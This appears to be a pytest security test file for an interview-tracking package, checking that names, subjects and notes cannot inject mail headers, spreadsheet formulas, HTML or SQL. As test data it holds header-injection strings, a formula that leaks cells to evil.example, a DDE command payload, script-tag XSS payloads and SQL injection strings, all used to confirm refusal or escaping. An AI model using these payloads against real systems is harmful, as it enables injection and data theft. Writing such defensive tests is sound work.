"""Nothing in the log turns into code: not a mail header, not a spreadsheet formula, not HTML in a
widget, not SQL, and no export file lands outside the folder chosen.

Each part checks what the user relies on by reading the result back the way the program that
gets it would: the .eml with the ``email`` package, the mailto: link with ``urllib``, the
.xlsx as a zip of XML and with openpyxl, the widgets' HTML values, the database's own tables.
"""

from __future__ import annotations

import ast
import csv
import re
import sqlite3
import zipfile
from email import policy
from email.parser import BytesParser
from pathlib import Path
from urllib.parse import parse_qs, unquote, urlsplit

import ipywidgets as widgets
import openpyxl
import pandas as pd
import pytest

import workbook
from workbook import InvalidTimeError, InvalidValueError, UnknownOutcomeError, UnknownRecordError
from workbook.store.csv_files import export_tables
from workbook.notes.mail import mailto_link, note_message, write_eml
from workbook.store.kinds import KINDS

from .conftest import TABLES, assert_same_log, snapshot, widget_tree

BODY = "Dear Ana,\n\nThank you for walking me through the churn dashboard.\nBest,\nMaya"
EVIL = "Bcc: evil@evil.example"
# Everything that ends a line for some reader of a header (the email package splits on all of
# str.splitlines' line ends), NUL, and other control characters.
BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x00", "\x0b", "\x0c", "\x1c", "\x1e", "\x1b",
          "\x7f", "\x9b", "\t"]
# The headers of every note, in order (From only when the candidate's address is known).
HEADERS = ["To", "From", "Subject", "Date", "X-Unsent", "Content-Type", "Content-Transfer-Encoding", "MIME-Version"]


# -- helpers -------------------------------------------------------------------------------

def run_sql(log, statement: str, *params) -> None:
    """Write to the log's file behind its back, as another tool could."""
    with sqlite3.connect(log.url.database) as conn:
        conn.execute(statement, params)
    conn.close()


def files_under(folder: Path) -> dict[str, bytes | str]:
    """Every file and link under ``folder``, with its content (or a link's target), but the
    log's own files (SQLite touches them on a read)."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.name.startswith("log.sqlite"):
            continue
        if path.is_symlink():
            found[str(path.relative_to(folder))] = f"-> {path.readlink()}"
        elif path.is_file():
            found[str(path.relative_to(folder))] = path.read_bytes()
    return found


def read_back(message_or_path):
    """A message as a mail program reads it: the bytes written, parsed again."""
    if isinstance(message_or_path, Path):
        data = message_or_path.read_bytes()
    else:
        data = message_or_path.as_bytes(policy=policy.SMTP)
    return BytesParser(policy=policy.default).parsebytes(data)


def body_text(message) -> str:
    """The text body, its line ends as "\\n" (the file has CR LF throughout)."""
    return re.sub(r"\r\n|\r", "\n", message.get_content())


def assert_only_our_headers(message, with_from: bool = True) -> None:
    expected = HEADERS if with_from else [h for h in HEADERS if h != "From"]
    assert list(message.keys()) == expected
    for name in ("Bcc", "Cc", "Reply-To", "Sender"):
        assert name not in message


def mailto_query(link: str) -> tuple[str, dict]:
    """The address and the query of a mailto: link, as a browser decodes them."""
    parts = urlsplit(link)
    assert parts.scheme == "mailto" and parts.fragment == ""
    return unquote(parts.path), parse_qs(parts.query, keep_blank_values=True, strict_parsing=True)


# == .eml and mailto: =========================================================================

# Every stored field that reaches a header: (table, column, a clean value to break, the row and
# field the refusal names, whether mailto: uses it).
STORED = {
    "interviewer name": ("interviewers", "name", "Ana Lima", "interviewer", "name", False),
    "interviewer email": ("interviewers", "email", "ana@northwind.example", "interviewer", "email", True),
    "candidate name": ("candidates", "name", "Maya Okafor", "candidate", "name", False),
    "candidate email": ("candidates", "email", "maya@example.com", "candidate", "email", False),
    "company (default subject)": ("interviews", "company", "Northwind Analytics", "interview", "company", True),
    "role (default subject)": ("interviews", "role", "Data analyst", "interview", "role", True),
    "time zone (Date)": ("interviews", "timezone", "America/New_York", "interview", "timezone", False),
}
CHANGE = {
    "interviewers": lambda log, ana, interview, column, value: log.change_interviewer(ana, **{column: value}),
    "candidates": lambda log, ana, interview, column, value: log.change_candidate("Maya Okafor", **{column: value}),
    "interviews": lambda log, ana, interview, column, value: log.change_interview(interview, **{column: value}),
}


@pytest.mark.parametrize("where", list(STORED))
def test_the_log_refuses_a_line_break_in_every_field_that_reaches_a_header(one_interview, where):
    log, interview, [ana, _] = one_interview
    table, column, clean, _, _, _ = STORED[where]
    before = snapshot(log)
    for brk in BREAKS:
        with pytest.raises(InvalidValueError) as error:
            CHANGE[table](log, ana, interview, column, f"{clean}{brk}{EVIL}")
        assert error.value.field == ("candidate" if (table, column) == ("candidates", "name") else column)
    assert_same_log(before, snapshot(log))


@pytest.mark.parametrize("where", list(STORED))
def test_a_line_break_that_reached_the_log_never_makes_a_header(one_interview, tmp_path, where):
    """A row written by another tool: every hand-off refuses it, naming the row and field."""
    log, _, [ana, _] = one_interview
    table, column, clean, row_kind, field, in_mailto = STORED[where]
    outbox = tmp_path / "outbox"
    for brk in BREAKS:
        run_sql(log, f"UPDATE {table} SET {column} = ?", f"{clean}{brk}{EVIL}")  # one row in each table

        with pytest.raises(InvalidValueError) as error:
            note_message(log, ana, BODY, sent_at="2026-09-14T12:00")
        assert (error.value.record, error.value.field) == (row_kind, field), repr(brk)
        assert "\n" not in str(error.value) and "\r" not in str(error.value), repr(brk)  # named on one line
        with pytest.raises(InvalidValueError):
            write_eml(log, ana, BODY, outbox, sent_at="2026-09-14T12:00")
        assert not outbox.exists()
        if in_mailto:
            with pytest.raises(InvalidValueError) as error:
                mailto_link(log, ana, BODY)
            assert error.value.field == field, repr(brk)
        else:  # not in the link at all: the link is what it always is
            address, query = mailto_query(mailto_link(log, ana, BODY))
            assert (address, set(query)) == ("ana@northwind.example", {"subject", "body"}), repr(brk)
    run_sql(log, f"UPDATE {table} SET {column} = ?", clean)
    assert_only_our_headers(read_back(note_message(log, ana, BODY)))  # the same log, clean again


def test_a_line_break_in_a_typed_subject_date_or_now_never_makes_a_header(one_interview, tmp_path):
    log, _, [ana, _] = one_interview
    outbox = tmp_path / "outbox"
    for brk in BREAKS:
        given = {
            "subject": dict(subject=f"Thank you{brk}{EVIL}"),
            "sent_at": dict(sent_at=f"2026-09-14T12:00{brk}{EVIL}"),
            "now": dict(now=f"2026-09-14T16:00:00Z{brk}{EVIL}"),
        }
        for field, arguments in given.items():
            with pytest.raises(InvalidValueError) as error:
                note_message(log, ana, BODY, **arguments)
            assert error.value.field == field, repr(brk)
            if field != "subject":
                assert isinstance(error.value, InvalidTimeError)
            with pytest.raises(InvalidValueError):
                write_eml(log, ana, BODY, outbox, **arguments)
            assert not outbox.exists()
        with pytest.raises(InvalidValueError) as error:
            mailto_link(log, ana, BODY, subject=given["subject"]["subject"])
        assert error.value.field == "subject"


ENCODED_WORDS = ["=?utf-8?q?Ana=0D=0ABcc:_evil@evil.example?=",
                 "Ana =?UTF-8?B?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?= Lima",
                 "=?iso-8859-1?q?x=0ABcc:_evil@evil.example?="]


@pytest.mark.parametrize("encoded", ENCODED_WORDS)
def test_an_encoded_word_hiding_a_line_break_is_refused(one_interview, encoded):
    """The email package of Python 3.11.7 decodes "=?...?=" and writes the line break in it out
    as a real one: the note would go to a Bcc. Such text is refused in every header field."""
    log, interview, [ana, _] = one_interview
    with pytest.raises(InvalidValueError) as error:
        note_message(log, ana, BODY, subject=encoded)
    assert error.value.field == "subject"
    with pytest.raises(InvalidValueError):
        mailto_link(log, ana, BODY, subject=encoded)
    for where in ("interviewer name", "candidate name", "company (default subject)", "role (default subject)"):
        table, column, clean, row_kind, field, _ = STORED[where]
        run_sql(log, f"UPDATE {table} SET {column} = ?", encoded)
        with pytest.raises(InvalidValueError) as error:
            note_message(log, ana, BODY)
        assert (error.value.record, error.value.field) == (row_kind, field)
        run_sql(log, f"UPDATE {table} SET {column} = ?", clean)
    note_message(log, ana, BODY)  # all clean again


@pytest.mark.parametrize("encoded", ENCODED_WORDS[:2])
def test_what_would_not_read_back_as_written_is_refused_too(one_interview, monkeypatch, encoded):
    """The second line of defence: with the encoded-word check switched off, the message read
    back shows the forged header, and the note is refused all the same."""
    import workbook.notes.mail as handoff

    monkeypatch.setattr(handoff, "_ENCODED_WORD", re.compile(r"(?!)"))  # matches nothing
    log, _, [ana, _] = one_interview
    with pytest.raises(InvalidValueError) as error:
        note_message(log, ana, BODY, subject=encoded)
    assert error.value.field == "(headers)"
    run_sql(log, "UPDATE interviewers SET name = ?", encoded)
    with pytest.raises(InvalidValueError) as error:
        note_message(log, ana, BODY)
    assert error.value.field == "(To header)"


# Text that looks like mail syntax but holds no line break: allowed, and encoded so that it
# stays inside its own header.
LOOKALIKES = {
    "name": ['Ana "Bcc: evil@evil.example" Lima', "Lima, Ana <evil@evil.example>", "Ana; Bcc: evil@evil.example",
             "Ana (Bcc: evil@evil.example)", "Ana\\\" Lima", "José Núñez"],
    "email": ["ana?bcc=evil@northwind.example", "ana&cc=evil@northwind.example", "ana#x@northwind.example",
              "ana%0D%0Abcc=evil@northwind.example", "o'neil+bcc=evil@northwind.example"],
    "subject": [f"Thank you {EVIL}", "Thank you?bcc=evil@evil.example&x=1", "Re: To: evil@evil.example",
                "Gracias, José — 100% = sí"],
}


@pytest.mark.parametrize("field, value", [(f, v) for f, values in LOOKALIKES.items() for v in values])
def test_text_that_looks_like_a_header_stays_inside_its_own(one_interview, tmp_path, field, value):
    log, _, [ana, _] = one_interview
    subject = value if field == "subject" else "Thank you, Ana"
    if field == "name":
        run_sql(log, "UPDATE interviewers SET name = ?", value)
        run_sql(log, "UPDATE candidates SET name = ?", value)
    elif field == "email":
        log.change_interviewer(ana, email=value)
        log.change_candidate("Maya Okafor", email=value)
    name = value if field == "name" else "Ana Lima"
    email = value if field == "email" else "ana@northwind.example"

    message = read_back(write_eml(log, ana, BODY, tmp_path, subject=subject, sent_at="2026-09-14T12:00"))
    assert_only_our_headers(message)
    [to] = message["To"].addresses
    [sender] = message["From"].addresses
    assert (to.display_name, to.addr_spec) == (name, email)
    assert sender.addr_spec == (email if field == "email" else "maya@example.com")
    assert message["Subject"] == subject
    assert body_text(message) == BODY + "\n"

    address, query = mailto_query(mailto_link(log, ana, BODY, subject=subject))
    assert address == email
    assert query == {"subject": [subject], "body": [BODY.replace("\n", "\r\n")]}


def test_line_breaks_in_the_body_stay_in_the_body(one_interview, tmp_path):
    """The body may run over many lines (and hold what looks like headers): it adds none."""
    log, _, [ana, _] = one_interview
    body = (f"Dear Ana,\r\n{EVIL}\r\n\r\nTo: evil@evil.example\nCc: evil@evil.example\rReply-To: x@evil.example"
            "\x85Sender: y\u2028Z\u2029W\x00\x0b\x0c\x1c end\n\n.\nFrom: me")
    message = read_back(write_eml(log, ana, body, tmp_path, sent_at="2026-09-14T12:00"))
    assert_only_our_headers(message)
    assert message["To"] == "Ana Lima <ana@northwind.example>"
    # CR, LF and CR LF all end a line of the text body; every other character is kept.
    assert body_text(message) == re.sub(r"\r\n|\r", "\n", body) + "\n"

    link = mailto_link(log, ana, body + "&bcc=evil@evil.example#cc=x")
    address, query = mailto_query(link)
    assert address == "ana@northwind.example"
    assert set(query) == {"subject", "body"}
    assert query["body"] == [re.sub(r"\r\n|\r|\n", "\r\n", body) + "&bcc=evil@evil.example#cc=x"]


# == spreadsheets =============================================================================

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1 555 0100", "-2+3",
            "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "#N/A", "=", "-", "  =1+1"]


@pytest.fixture
def formula_log(log):
    """A log whose every text field starts like a formula (or an error value)."""
    log.add_candidate(FORMULAS[1], email="maya@example.com", phone=FORMULAS[2], skills="=SUM(1); @x")
    interview = log.add_interview(FORMULAS[1], FORMULAS[4], FORMULAS[3], "2026-09-14T10:00", "2026-09-14T11:00",
                                  "America/New_York", stage=FORMULAS[6])
    people = [log.add_interviewer(interview, value, title=value, phone="-1", talking_points=value)
              for value in ("=1+1", "-", "@me")]
    log.add_interviewer(interview, "Tab", talking_points="\t=1+1")
    log.add_interviewer(interview, "CR", talking_points="\r=1+1\r\nsecond line")
    for person, value in zip(people, FORMULAS):
        log.add_note(person, subject=value, body=value, sent_at="2026-09-14T12:00")
    log.add_note(people[0], subject="=", body="\t@SUM(1)\n=2", sent_at="2026-09-14T13:00")
    log.add_note(people[1], subject=FORMULAS[5], body="  =1+1")  # a draft: no sent_at
    log.add_outcome(interview, "offer", "2026-09-20")
    return log


def sheet_xml(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")}


def expected_sheets(log) -> dict[str, list[tuple]]:
    """What each sheet should hold: the CSV export's frames, every field as text (ids too),
    line breaks as line feeds."""
    sheets = {}
    for kind, table in export_tables(log).items():
        rows = [tuple(table.columns)]  # the calendar's columns only when an interview came from one
        for record in table.astype(object).where(table.notna(), None).itertuples(index=False, name=None):
            rows.append(tuple(None if v in ("", None) else re.sub(r"\r\n?", "\n", str(v)) for v in record))
        sheets[kind] = rows
    return sheets


def test_no_field_becomes_a_formula_in_the_spreadsheet(formula_log, tmp_path):
    path = formula_log.export_xlsx(tmp_path / "log.xlsx")
    assert path == tmp_path / "log.xlsx"

    xml = sheet_xml(path)
    assert len(xml) == 5
    for name, data in xml.items():
        assert not re.search(rb"<(\w+:)?f[\s>/]", data), name   # no formula element, in any sheet
        assert b' t="e"' not in data and b" t='e'" not in data, name  # no error value either

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == list(TABLES)
    expected = expected_sheets(formula_log)
    starts = 0
    for kind in TABLES:
        sheet = book[kind]
        assert list(sheet.values) == expected[kind], kind
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.value is None or isinstance(cell.value, str), (kind, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (kind, cell.coordinate, cell.value)
                    looks_like_formula = cell.value.lstrip().startswith(("=", "+", "-", "@"))
                    # Marked as typed text, so that editing the cell keeps it text.
                    assert cell.quotePrefix == (looks_like_formula or cell.value.startswith("\t")), cell.value
                    starts += looks_like_formula
    assert starts >= 30
    # The exact text, formulas as typed:
    header, *rows = list(book["notes"].values)
    # Every field, but the messages' ids, which no note here was read from mail with.
    assert list(header) == [f for f in KINDS["notes"].fields if f not in ("sent_message_id", "reply_message_id")]
    notes = pd.DataFrame(rows, columns=header)
    assert set(FORMULAS[:3]) <= set(notes["subject"]) and "\t@SUM(1)\n=2" in set(notes["body"])
    people = {row[2]: row[6] for row in book["interviewers"].iter_rows(min_row=2, values_only=True)}
    assert people["Tab"] == "\t=1+1" and people["CR"] == "\n=1+1\nsecond line"


def test_the_spreadsheet_has_the_csv_exports_columns_and_times(sample_log, tmp_path):
    path = sample_log.export_xlsx(tmp_path / "sample.xlsx")
    sample_log.export_csv(tmp_path / "csv")
    book = openpyxl.load_workbook(path)
    for kind in TABLES:
        with open(tmp_path / "csv" / f"{kind}.csv", newline="", encoding="utf-8") as file:
            csv_rows = list(csv.reader(file))
        sheet_rows = [["" if v is None else str(v) for v in row] for row in book[kind].values]
        assert sheet_rows == [[re.sub(r"\r\n?", "\n", v) for v in row] for row in csv_rows], kind
    interviews = list(book["interviews"].values)
    assert interviews[0][6:] == ("starts_at", "ends_at")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", interviews[1][6])


@pytest.mark.parametrize("name", ["log.csv", "log", "log.xlsx.txt", ".xlsx", "missing/log.xlsx", "..", "a\x00.xlsx",
                                  "folder.xlsx"])
def test_an_export_target_that_is_not_an_xlsx_file_in_a_folder_is_refused(one_interview, tmp_path, name):
    log, _, _ = one_interview
    folder = tmp_path / "exports"
    (folder / "folder.xlsx").mkdir(parents=True)
    before = files_under(tmp_path)
    with pytest.raises(InvalidValueError) as error:
        log.export_xlsx(folder / name if "\x00" not in name else f"{folder}/{name}")
    assert error.value.field == "path"
    assert files_under(tmp_path) == before


def test_a_link_in_the_folder_is_replaced_never_followed(one_interview, tmp_path):
    log, _, _ = one_interview
    folder, outside = tmp_path / "exports", tmp_path / "outside"
    folder.mkdir(), outside.mkdir()
    (outside / "precious.xlsx").write_bytes(b"not yours")
    (folder / "log.xlsx").symlink_to(outside / "precious.xlsx")
    (folder / "candidates.csv").symlink_to(outside / "precious.csv")  # dangling
    (folder / "notes.csv").symlink_to(outside / "precious.xlsx")

    log.export_xlsx(folder / "log.xlsx")
    log.export_csv(folder)

    assert files_under(outside) == {"precious.xlsx": b"not yours"}
    assert not (folder / "log.xlsx").is_symlink() and zipfile.is_zipfile(folder / "log.xlsx")
    for kind in TABLES:
        assert not (folder / f"{kind}.csv").is_symlink()
    assert sorted(p.name for p in folder.iterdir()) == sorted([f"{k}.csv" for k in TABLES] + ["log.xlsx"])


def test_an_export_keeps_a_private_file_private_and_takes_a_long_name(one_interview, tmp_path):
    log, _, _ = one_interview
    folder = tmp_path / "exports"
    folder.mkdir()
    (folder / "notes.csv").write_bytes(b"old")
    (folder / "notes.csv").chmod(0o600)  # it holds names, addresses and phone numbers
    log.export_csv(folder)
    assert (folder / "notes.csv").stat().st_mode & 0o777 == 0o600
    assert (folder / "notes.csv").read_bytes().startswith(b"note_id,")

    long_name = folder / ("l" * 245 + ".xlsx")  # the system's limit is 255 bytes
    assert log.export_xlsx(long_name) == long_name and zipfile.is_zipfile(long_name)
    assert sorted(p.name for p in folder.iterdir()) == sorted([f"{k}.csv" for k in TABLES] + [long_name.name])


def test_a_control_character_that_reached_the_log_is_refused_before_writing(one_interview, tmp_path):
    log, _, [ana, _] = one_interview
    run_sql(log, "UPDATE interviewers SET talking_points = ? WHERE interviewer_id = ?", "dbt\x01tests", ana)
    with pytest.raises(InvalidValueError) as error:
        log.export_xlsx(tmp_path / "log.xlsx")
    assert (error.value.row, error.value.field) == (f"interviewer {ana}", "talking_points")
    assert list(tmp_path.glob("*.xlsx*")) == [] and list(tmp_path.glob(".*")) == []


def test_importing_the_workbook_loads_no_spreadsheet_library():
    import subprocess
    import sys

    code = "import sys, workbook, workbook.store.log, workbook.store.csv_files; print('openpyxl' in sys.modules)"
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "False"


# == widgets ==================================================================================

PAYLOADS = ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>"]
RAW = re.compile(r"<\s*(img|script)\b", re.IGNORECASE)


def html_shown(top) -> list[str]:
    """Everything a widget tree renders as HTML: HTML widgets' values, descriptions that allow
    HTML, and HTML or Markdown outputs of Output widgets."""
    shown = []
    for w in widget_tree(top):
        if isinstance(w, (widgets.HTML, widgets.HTMLMath)):
            shown.append(w.value)
        if getattr(w, "description_allow_html", False):
            shown.append(w.description)
        if isinstance(w, widgets.Output):
            for output in w.outputs:
                data = output.get("data", {})
                shown += [data[kind] for kind in ("text/html", "text/markdown") if kind in data]
    return shown


def assert_escaped(shown: list[str], payload: str) -> str:
    for value in shown:
        assert not RAW.search(value), value
    text = "\n".join(shown)
    assert payload.replace("<", "&lt;").replace(">", "&gt;") in text
    return text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_interview_form_escapes_names_from_the_log_and_typed(log, payload):
    from workbook.ui.interview_form import InterviewForm

    log.add_candidate(f"{payload} Okafor")
    form = InterviewForm(log, now="2026-09-15T12:00:00+00:00", display=False)
    c = form.controls
    assert c["candidate"].value == f"{payload} Okafor"   # from the log, as text in a text box
    values = {"company": payload, "role": payload, "stage": payload, "start": payload, "end": "11:00",
              "timezone": payload}
    for name, value in values.items():
        c[name].value = value
    person = {"name": payload, "title": payload, "email": payload, "phone": payload, "talking_points": payload}
    for name, value in person.items():
        c["people"][0][name].value = value
    c["save"].click()                                   # refused, quoting what was typed
    refused = html_shown(form.widget)
    assert_escaped(refused, payload)
    assert "&lt;" in c["messages"]["start"].value

    c["candidate"].value = f"New {payload}"             # a new candidate: a hint naming them
    hint = html_shown(form.widget)
    c["start"].value, c["timezone"].value = "10:00", "America/New_York"
    c["people"][0]["email"].value = "ana@northwind.example"
    c["save"].click()                                   # saved: a line naming candidate and company
    saved = html_shown(form.widget)
    assert "Added candidate New &lt;" in c["message"].value
    assert_escaped(refused + hint + saved, payload)
    assert log.interviews()["company"].tolist() == [payload]
    assert log.interviewers()[["name", "title", "phone", "talking_points"]].iloc[0].tolist() == [payload] * 4


@pytest.fixture
def hostile_log(log):
    """Every text field the widgets show holds HTML, and one name a dollar sign (mathtext)."""
    def fill(payload):
        candidate = f"{payload} Okafor"
        log.add_candidate(candidate, skills=[payload])
        interview = log.add_interview(candidate, f"{payload} $Corp$", f"{payload} role", "2026-11-18T10:00",
                                      "2026-11-18T11:00", "Europe/Berlin", stage=payload)
        later = log.add_interview(candidate, f"{payload} Two", "Analyst", "2026-11-20T09:00", "2026-11-20T10:00",
                                  "Europe/Berlin")
        people = [log.add_interviewer(interview, f"{payload} {n}", title=payload, email=f"p{n}@northwind.example",
                                      talking_points=payload) for n in (1, 2)]
        log.add_interviewer(later, f"{payload} later", title=payload, talking_points=payload)
        log.add_note(people[0], subject=payload, body=f"Dear you,\n{payload}", sent_at="2026-11-18T15:00")
        log.add_note(people[1], subject=payload, body=payload)
        log.add_outcome(interview, "next_round", "2026-11-19")
        return candidate, interview

    return log, [fill(payload) for payload in PAYLOADS]


NOW = "2026-11-20T17:00:00+00:00"


@pytest.mark.slow
def test_the_habits_dashboard_escapes_every_name_it_shows(hostile_log):
    import matplotlib

    matplotlib.use("Agg")
    from workbook.ui.habits_dashboard import CHARTS, HabitsDashboard

    log, _ = hostile_log
    dashboard = HabitsDashboard(log, now=NOW, display=False)
    assert dashboard.error is None and list(dashboard.axes) == list(CHARTS)
    shown = html_shown(dashboard.widget)
    for payload in PAYLOADS:
        assert f"{payload} Okafor".replace("<", "&lt;").replace(">", "&gt;") in dashboard.controls["summary"].value
        assert_escaped(shown, payload)
    # The charts are images, with plain text beside them: nothing there is read as HTML.
    for output in dashboard.controls["charts"].outputs:
        assert set(output["data"]) == {"image/png", "text/plain"}
    # On the charts, names are shown as typed: "$" is escaped so that it is not read as maths.
    texts = []
    for ax in dashboard.axes.values():
        texts += [ax.get_title(), ax.get_xlabel(), ax.get_ylabel()]
        texts += [t.get_text() for t in ax.get_yticklabels() + ax.get_xticklabels()]
        if ax.get_legend() is not None:
            texts += [t.get_text() for t in ax.get_legend().get_texts()]
    joined = "\n".join(texts)
    for payload in PAYLOADS:
        assert f"{payload} Okafor" in joined                       # the coach view and the trend
        assert f"{payload} \\$Corp\\$" in joined                   # interviews and people due
    assert "$Corp$" not in joined.replace("\\$Corp\\$", "")


@pytest.mark.parametrize("widget", ["NoteBuilder", "FollowupTracker"])
def test_the_note_builder_and_tracker_escape_every_payload(hostile_log, tmp_path, widget):
    """Beside their own tests (tests/test_note_builder.py, tests/test_followup_tracker.py): a
    <script> as well as an <img>, in every field, and every place that renders HTML."""
    from workbook.ui import FollowupTracker, NoteBuilder

    log, made = hostile_log
    for payload, (candidate, interview) in zip(PAYLOADS, made):
        if widget == "NoteBuilder":
            shown = NoteBuilder(log, candidate=candidate, interview_id=interview, now=NOW, downloads=tmp_path,
                                display=False)
        else:
            shown = FollowupTracker(log, now=NOW, display=False)
        text = assert_escaped(html_shown(shown.widget), payload)
        assert text.count("&lt;") >= 4


# == SQL ======================================================================================

SQL_HOSTILE = ["Robert'); DROP TABLE notes;--", "x' OR '1'='1", 'Ana "the" O\'Neil; --', "%s %d %(name)s %%",
               "? ?, ?", ":name :1 $1 @p", "\\'; DELETE FROM candidates; --", "/* */ UNION SELECT * FROM candidates"]


def tables_in(log) -> list[str]:
    with sqlite3.connect(log.url.database) as conn:
        names = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    conn.close()
    return names


@pytest.mark.parametrize("hostile", SQL_HOSTILE)
def test_hostile_text_through_every_write_is_stored_exactly(log, hostile):
    tables = tables_in(log)
    skill = hostile.replace(";", ",")  # skills are separated by ";"
    other = f"{hostile} 2"

    log.add_candidate(hostile, phone=hostile, skills=[skill])
    interview = log.add_interview(hostile, hostile, hostile, "2026-09-14T10:00", "2026-09-14T11:00",
                                  "America/New_York", stage=hostile,
                                  people=[{"name": hostile, "title": hostile, "phone": hostile,
                                           "talking_points": hostile}])
    person = log.add_interviewer(interview, hostile, title=hostile, phone=hostile, talking_points=hostile)
    note = log.add_note(person, body=hostile, subject=hostile, sent_at="2026-09-14T12:00")
    log.add_outcome(interview, "offer", "2026-09-20")
    log.add_candidate(other)
    interview_two = log.add_interview(other, other, other, "2026-09-15T10:00", "2026-09-15T11:00",
                                      "America/New_York", people=[{"name": other}])

    candidates = log.candidates().set_index("candidate")
    assert candidates.loc[hostile, ["phone", "skills"]].tolist() == [hostile, skill]
    assert log.interviews().iloc[0][["candidate", "company", "role", "stage"]].tolist() == [hostile] * 4
    people = log.interviewers()
    assert (people.iloc[:2][["name", "title", "phone", "talking_points"]] == hostile).all().all()
    assert log.notes().iloc[0][["subject", "body"]].tolist() == [hostile, hostile]

    # Changes, and look-ups by a hostile key, touch only the record named.
    log.change_candidate(other, name=f"{other} 3", phone=hostile)
    log.change_interview(interview_two, company=hostile, role=hostile, stage=hostile)
    log.change_interviewer(person, name=other, title=other, talking_points=other)
    log.change_note(note, subject=other, body=other)
    for wrong in (lambda: log.change_candidate(f"{hostile}' OR '1'='1", phone="x"),
                  lambda: log.remove_candidate(f"{hostile}' OR 1=1 --", cascade=True)):
        with pytest.raises(UnknownRecordError):
            wrong()
    before = snapshot(log)
    with pytest.raises(UnknownOutcomeError):
        log.change_outcome(interview, outcome=hostile)
    with pytest.raises(InvalidTimeError):
        log.mark_replied(note, at=hostile)
    assert_same_log(before, snapshot(log))

    assert log.candidates()["candidate"].tolist() == [hostile, f"{other} 3"]
    assert log.candidates()["phone"].tolist() == [hostile, hostile]
    assert log.interviews()["company"].tolist() == [hostile, hostile]
    assert log.interviewers().set_index("interviewer_id").loc[person, ["name", "title"]].tolist() == [other, other]
    assert log.notes()[["subject", "body"]].iloc[0].tolist() == [other, other]
    assert log.outcomes()["outcome"].tolist() == ["offer"]

    log.remove_candidate(hostile, cascade=True)
    assert log.candidates()["candidate"].tolist() == [f"{other} 3"]
    assert len(log.interviews()) == 1 and len(log.notes()) == 0
    assert tables_in(log) == tables


def test_hostile_text_through_a_csv_import_is_stored_exactly(log, tmp_path):
    folder = tmp_path / "import"
    folder.mkdir()
    names = [h.replace(";", ",") for h in SQL_HOSTILE]  # one name per candidate, no skill separators

    def write(kind, rows):
        with open(folder / f"{kind}.csv", "w", newline="", encoding="utf-8") as file:
            writer = csv.writer(file)
            writer.writerow(KINDS[kind].fields)
            writer.writerows(rows)

    write("candidates", [[n, "", n, n] for n in names])
    write("interviews", [[i, n, n, n, n, "Europe/Berlin", "2026-09-14T10:00", "2026-09-14T11:00", "", ""]
                         for i, n in enumerate(names, start=1)])
    write("interviewers", [[i, i, n, n, "", n, n] for i, n in enumerate(SQL_HOSTILE, start=1)])
    write("notes", [[i, i, "email", n, n, "2026-09-14T12:00", "", n if i % 2 else "", "", ""]
                    for i, n in enumerate(SQL_HOSTILE, start=1)])
    tables = tables_in(log)

    assert log.import_csv(folder) == {"candidates": 8, "interviews": 8, "interviewers": 8, "notes": 8,
                                      "outcomes": 0}
    assert log.candidates()[["candidate", "phone", "skills"]].to_numpy().tolist() == [[n, n, n] for n in names]
    assert (log.interviews()[["candidate", "company", "role", "stage"]].to_numpy() ==
            pd.DataFrame({c: names for c in range(4)}).to_numpy()).all()
    assert log.interviewers()["talking_points"].tolist() == SQL_HOSTILE
    assert log.notes()["body"].tolist() == SQL_HOSTILE and log.notes()["subject"].tolist() == SQL_HOSTILE
    assert log.notes()["sent_message_id"].tolist()[::2] == SQL_HOSTILE[::2]
    assert tables_in(log) == tables


# Every call that runs SQL text. A first argument built from pieces (an f-string, "%" or "+",
# .format, .join, str()) is allowed only here, each with why it cannot carry text from a user:
# (module, enclosing function, called name) -> how many such calls.
BUILT_SQL_ALLOWED = {
    # BUSY_TIMEOUT is a constant of the module, written as an integer ("%d").
    ("workbook/store/engine.py", "_sqlite_engine._on_connect", "execute"): 1,
    # BUSY_TIMEOUT and WRITE_LOCK are constants of the module, written as integers ("%d").
    ("workbook/store/engine.py", "_postgresql_engine._on_begin", "exec_driver_sql"): 2,
    # SQLAlchemy's compilation of one of our statements; its parameters go separately (params=).
    ("workbook/store/reading.py", "query", "read_sql_query"): 1,
    # The INSERT and its "(?, ?, ...)" come from SQLAlchemy compiling our own table's insert;
    # the rows are bound parameters. The PRAGMA sets back the integer SQLite itself reported.
    ("workbook/store/writing.py", "insert_rows", "exec_driver_sql"): 3,
    # SQLite's table rebuild (steps 1 -> 2 for notes, 3 -> 4 for interviews): the table's name,
    # the module's own, quoted as an identifier (PRAGMA table_info, DROP, RENAME); the columns a
    # person added, carried over by the names and types SQLite reports (PRAGMA table_info), each
    # name quoted as an identifier (ADD COLUMN, then the INSERT ... SELECT listing them); and the
    # CREATE INDEX statements SQLite itself keeps for the table (sqlite_master) or the module's
    # own, run again on the rebuilt table.
    ("workbook/store/migrations.py", "_rebuild_sqlite_table", "exec_driver_sql"): 6,
    # Step 2 -> 3 on PostgreSQL: each of the module's literal ALTER TABLE statements in turn.
    ("workbook/store/migrations.py", "_ids_of_64_bits", "text"): 1,
    # Step 3 -> 4 on PostgreSQL: each of the module's literal ALTER TABLE / CREATE INDEX statements.
    ("workbook/store/migrations.py", "_calendar_events", "text"): 1,
    # Step 4 -> 5 on PostgreSQL: each of the module's literal ALTER TABLE statements.
    ("workbook/store/migrations.py", "_note_messages", "text"): 1,
}
_SQL_CALLS = {"execute", "executemany", "executescript", "exec_driver_sql", "read_sql", "read_sql_query"}


def _is_built(node, assigned) -> bool:
    """Whether an expression builds text from pieces (or names a variable that does)."""
